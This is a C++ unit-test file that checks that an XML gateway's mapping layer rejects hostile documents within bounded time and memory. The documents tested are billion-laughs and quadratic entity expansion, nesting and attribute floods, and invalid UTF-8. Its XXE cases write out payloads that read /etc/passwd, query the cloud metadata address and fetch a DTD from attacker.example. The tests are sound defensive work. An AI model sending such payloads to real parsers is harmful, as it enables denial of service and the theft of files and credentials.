// The security issue's hostile XML documents, each through the inbound conversion the gateway
// runs (dto_mapping::to_json, which parses with parse_xml): each refused with its own error,
// in bounded time and bounded memory. Memory is measured by counting every allocation this
// executable makes: global operator new/delete are replaced below, and pugixml, which calls
// malloc itself, is given the same counting functions.
#define BOOST_TEST_MODULE mapping_hostile_xml
#include <boost/test/unit_test.hpp>

#include "test_support.hpp"

#include <blubridge/mapping/error.hpp>

#include <atomic>
#include <chrono>
#include <cstddef>
#include <cstdlib>
#include <new>
#include <string>

namespace {

std::atomic<std::size_t> live_bytes{0};
std::atomic<std::size_t> peak_bytes{0};

// Each block carries its size in front, so a free knows how much to subtract.
constexpr std::size_t header = alignof(std::max_align_t);

void* counted_allocate(std::size_t size) noexcept
{
    void* block = std::malloc(size + header);
    if (!block) return nullptr;
    *static_cast<std::size_t*>(block) = size;
    const std::size_t now = live_bytes.fetch_add(size) + size;
    std::size_t peak = peak_bytes.load();
    while (now > peak && !peak_bytes.compare_exchange_weak(peak, now)) {}
    return static_cast<char*>(block) + header;
}

void counted_free(void* p) noexcept
{
    if (!p) return;
    void* block = static_cast<char*>(p) - header;
    live_bytes.fetch_sub(*static_cast<std::size_t*>(block));
    std::free(block);
}

void* counted_new(std::size_t size)
{
    if (void* p = counted_allocate(size)) return p;
    throw std::bad_alloc();
}

// pugixml's DOM and its copy of the text are allocated through these, not operator new.
struct count_pugixml_allocations {
    count_pugixml_allocations() { pugi::set_memory_management_functions(counted_allocate, counted_free); }
};

} // namespace

void* operator new(std::size_t size) { return counted_new(size); }
void* operator new[](std::size_t size) { return counted_new(size); }
void* operator new(std::size_t size, const std::nothrow_t&) noexcept { return counted_allocate(size); }
void* operator new[](std::size_t size, const std::nothrow_t&) noexcept { return counted_allocate(size); }
void operator delete(void* p) noexcept { counted_free(p); }
void operator delete[](void* p) noexcept { counted_free(p); }
void operator delete(void* p, std::size_t) noexcept { counted_free(p); }
void operator delete[](void* p, std::size_t) noexcept { counted_free(p); }
void operator delete(void* p, const std::nothrow_t&) noexcept { counted_free(p); }
void operator delete[](void* p, const std::nothrow_t&) noexcept { counted_free(p); }

BOOST_TEST_GLOBAL_FIXTURE(count_pugixml_allocations);

using namespace blubridge::mapping;
using blubridge::mapping::test::data;
using blubridge::mapping::test::mapping;

namespace {

constexpr std::size_t kib = 1024;
constexpr std::size_t mib = 1024 * kib;
// The gateway's default body_limit: no larger request reaches the XML parser.
constexpr std::size_t body_limit = mib;

struct outcome {
    boost::system::error_code ec;
    conversion_report report;
    double seconds = 0;
    std::size_t peak_bytes = 0;  // most bytes live at once during the call, above those live before it
};

outcome convert(std::string_view mapping_name, const std::string& xml)
{
    const dto_mapping& m = mapping(mapping_name);  // loads the mappings before measuring
    outcome o;
    std::string json;
    const std::size_t before = live_bytes.load();
    peak_bytes.store(before);
    const auto start = std::chrono::steady_clock::now();
    o.ec = m.to_json(xml, json, o.report);
    o.seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
    o.peak_bytes = peak_bytes.load() - before;
    return o;
}

void check_bounded(const outcome& o, std::size_t max_bytes)
{
    BOOST_TEST_MESSAGE(o.seconds << " s, " << o.peak_bytes << " bytes at peak: " << o.report.message);
    BOOST_TEST(o.seconds < 1.0, o.seconds << " s");
    BOOST_TEST(o.peak_bytes < max_bytes, o.peak_bytes << " bytes at peak");
}

std::string repeat(std::string_view s, std::size_t n)
{
    std::string out;
    out.reserve(s.size() * n);
    for (std::size_t i = 0; i < n; ++i) out += s;
    return out;
}

std::string subscription_order(int package)
{
    return "<subscriptionOrder>\n<packageId>" + std::to_string(package) +
           "</packageId>\n<packageVersionId>1</packageVersionId>\n<packageRateTermId>10843</packageRateTermId>\n"
           "<startDate>2016-12-15</startDate>\n<endDate>2017-12-15</endDate>\n<term>1</term>\n"
           "<termUnits>Months</termUnits>\n<daysBeforeInvoice>1</daysBeforeInvoice>\n<components>\n"
           "<component>\n<componentId>10111</componentId>\n<componentVersion>1</componentVersion>\n"
           "<quantity>1</quantity>\n</component>\n<component>\n<componentId>10112</componentId>\n"
           "<componentVersion>2</componentVersion>\n<quantity>3</quantity>\n</component>\n</components>\n"
           "</subscriptionOrder>\n";
}

} // namespace

BOOST_AUTO_TEST_CASE(the_counter_sees_the_parser)
{
    // Without this the memory bounds below could pass by measuring nothing: a document
    // pugixml accepts costs at least its copy of the text.
    const std::string xml = "<customer><name>" + std::string(60 * kib, 'x') + "</name></customer>";
    const outcome o = convert("customer", xml);
    BOOST_TEST_REQUIRE(!o.ec, o.report.message);
    BOOST_TEST(o.peak_bytes > xml.size(), o.peak_bytes);
}

BOOST_AUTO_TEST_CASE(billion_laughs)
{
    std::string xml = R"(<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">)";
    for (int i = 1; i <= 9; ++i) {
        const std::string prev = i == 1 ? "lol" : "lol" + std::to_string(i - 1);
        xml += "<!ENTITY lol" + std::to_string(i) + " \"" + repeat("&" + prev + ";", 10) + "\">";
    }
    xml += "]><customer><name>&lol9;</name></customer>";
    const outcome o = convert("customer", xml);
    BOOST_TEST(o.ec == error::doctype_forbidden);
    BOOST_TEST(o.report.message.find("DOCTYPE") != std::string::npos, o.report.message);
    check_bounded(o, 16 * kib);  // refused before pugixml copies the text
}

BOOST_AUTO_TEST_CASE(quadratic_blowup)
{
    // One 50 KiB entity used 20,000 times: 1 GB if expanded, a little under 1 MiB as sent.
    const std::string xml = "<!DOCTYPE customer [<!ENTITY a \"" + std::string(50 * kib, 'a') +
                            "\">]><customer><name>" + repeat("&a;", 20'000) + "</name></customer>";
    BOOST_TEST_REQUIRE(xml.size() < body_limit);
    const outcome o = convert("customer", xml);
    BOOST_TEST(o.ec == error::doctype_forbidden);
    check_bounded(o, 16 * kib);
}

BOOST_AUTO_TEST_CASE(quadratic_blowup_without_doctype)
{
    // Without entities nothing can be reused; the most a client can do is send one huge value.
    const std::string xml =
        R"(<customer><currency id=")" + std::string(body_limit - 64, 'a') + R"("/></customer>)";
    const outcome o = convert("customer", xml);
    BOOST_TEST(o.ec == error::too_long);
    BOOST_TEST(o.report.path == "customer/currency");
    BOOST_TEST(o.report.message == "attribute value longer than 65536 bytes", o.report.message);
    check_bounded(o, 2 * mib);  // pugixml's copy of the text, nothing more
}

BOOST_AUTO_TEST_CASE(external_entities)
{
    for (const std::string& doctype : {
             std::string(R"(<!DOCTYPE customer [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>)"),
             std::string(R"(<!DOCTYPE customer [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>)"),
             std::string(R"(<!DOCTYPE customer [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>)"),
             std::string(R"(<!DOCTYPE customer SYSTEM "http://attacker.example/customer.dtd">)"),
         }) {
        const outcome o = convert("customer", R"(<?xml version="1.0"?>)" + doctype +
                                                  "<customer><name>&xxe;</name></customer>");
        BOOST_TEST(o.ec == error::doctype_forbidden, doctype);
        check_bounded(o, 16 * kib);
    }
}

BOOST_AUTO_TEST_CASE(nested_100000_elements)
{
    const std::string xml = "<customer>" + repeat("<a>", 100'000) + repeat("</a>", 100'000) + "</customer>";
    BOOST_TEST_REQUIRE(xml.size() < body_limit);
    const outcome o = convert("customer", xml);
    // 200,002 tags: refused on the count of `<` before a DOM is built (a deep document that is
    // within the element limit is refused as too_deep, see test_safe_xml.cpp).
    BOOST_TEST(o.ec == error::too_many_elements);
    BOOST_TEST(o.report.message == "more than 10000 elements (200002 tags)", o.report.message);
    check_bounded(o, 16 * kib);
}

BOOST_AUTO_TEST_CASE(duplicate_attributes)
{
    const outcome o = convert("customer", R"(<customer><currency id="USD" id="EUR"/></customer>)");
    BOOST_TEST(o.ec == error::malformed_xml);
    BOOST_TEST(o.report.path == "customer/currency");
    BOOST_TEST(o.report.message == "attribute 'id' appears twice", o.report.message);
    check_bounded(o, 64 * kib);
}

BOOST_AUTO_TEST_CASE(attributes_10000)
{
    std::string attributes;
    for (int i = 0; i < 10'000; ++i) attributes += " a" + std::to_string(i) + "=\"1\"";
    const outcome o = convert("customer", "<customer" + attributes + "/>");
    BOOST_TEST(o.ec == error::too_many_attributes);
    BOOST_TEST(o.report.path == "customer");
    BOOST_TEST(o.report.message == "more than 32 attributes", o.report.message);
    check_bounded(o, 4 * mib);
}

BOOST_AUTO_TEST_CASE(a_mebibyte_of_attributes)
{
    // The most attributes a body can carry (5 bytes each): pugixml builds them all before the
    // element can be checked, so this is the DOM's worst case per byte of text.
    std::string attributes;
    for (int i = 0; attributes.size() < body_limit - 64; ++i) {
        const std::string name = std::to_string(i);
        attributes += " _";
        attributes.append(name.begin(), name.end());
        attributes += "=''";
    }
    const outcome o = convert("customer", "<customer" + attributes + "/>");
    BOOST_TEST(o.ec == error::too_many_attributes);
    check_bounded(o, 16 * mib);
}

BOOST_AUTO_TEST_CASE(invalid_utf8)
{
    // The bad byte last: the whole mebibyte is decoded first.
    const std::string xml =
        "<customer><name>" + std::string(body_limit - 64, 'a') + "\xC3(</name></customer>";
    const outcome o = convert("customer", xml);
    BOOST_TEST(o.ec == error::unsupported_encoding);
    BOOST_TEST(o.report.message == "invalid UTF-8 at byte " + std::to_string(xml.find('\xC3')), o.report.message);
    check_bounded(o, 16 * kib);
    for (const char* bad : {"\xFF", "\xC0\xAF", "\xED\xA0\x80", "\xF4\x90\x80\x80", "\xE2\x82"}) {
        const outcome small = convert("customer", std::string("<customer><name>") + bad + "</name></customer>");
        BOOST_TEST(small.ec == error::unsupported_encoding, small.report.message);
    }
}

BOOST_AUTO_TEST_CASE(text_node_of_one_mebibyte)
{
    const std::string xml = "<customer><name>" + std::string(body_limit, 'a') + "</name></customer>";
    const outcome o = convert("customer", xml);
    BOOST_TEST(o.ec == error::too_long);
    BOOST_TEST(o.report.path == "customer/name");
    BOOST_TEST(o.report.message == "text longer than 65536 bytes", o.report.message);
    check_bounded(o, 2 * mib);
}

BOOST_AUTO_TEST_CASE(customer_with_10000_repeated_children)
{
    const std::string xml = "<customer>" + repeat("<name>A</name>", 10'000) + "</customer>";
    const outcome o = convert("customer", xml);
    BOOST_TEST(o.ec == error::too_many_children);
    BOOST_TEST(o.report.path == "customer");
    BOOST_TEST(o.report.message == "more than 256 child elements", o.report.message);
    check_bounded(o, 4 * mib);
}

BOOST_AUTO_TEST_CASE(seed_documents_still_pass)
{
    // The limits leave the real documents a wide margin: the seed customer and autopay
    // payloads, and an addCustomerAndOrder with the five orders its mapping allows.
    const outcome customer = convert("customer", data("customer_post.xml"));
    BOOST_TEST(!customer.ec, customer.report.message);
    const outcome autopay = convert("autopay", data("autopay_post.xml"));
    BOOST_TEST(!autopay.ec, autopay.report.message);

    std::string orders;
    for (int i = 0; i < 5; ++i) orders += subscription_order(300 + i);
    std::string customer_xml = data("customer_post.xml");
    const outcome added = convert("add_customer_and_order", "<addCustomerAndOrder>\n" + customer_xml +
                                                                "<subscriptionOrders>\n" + orders +
                                                                "</subscriptionOrders>\n</addCustomerAndOrder>");
    BOOST_TEST(!added.ec, added.report.path << ": " << added.report.message);
    check_bounded(added, 1 * mib);
}
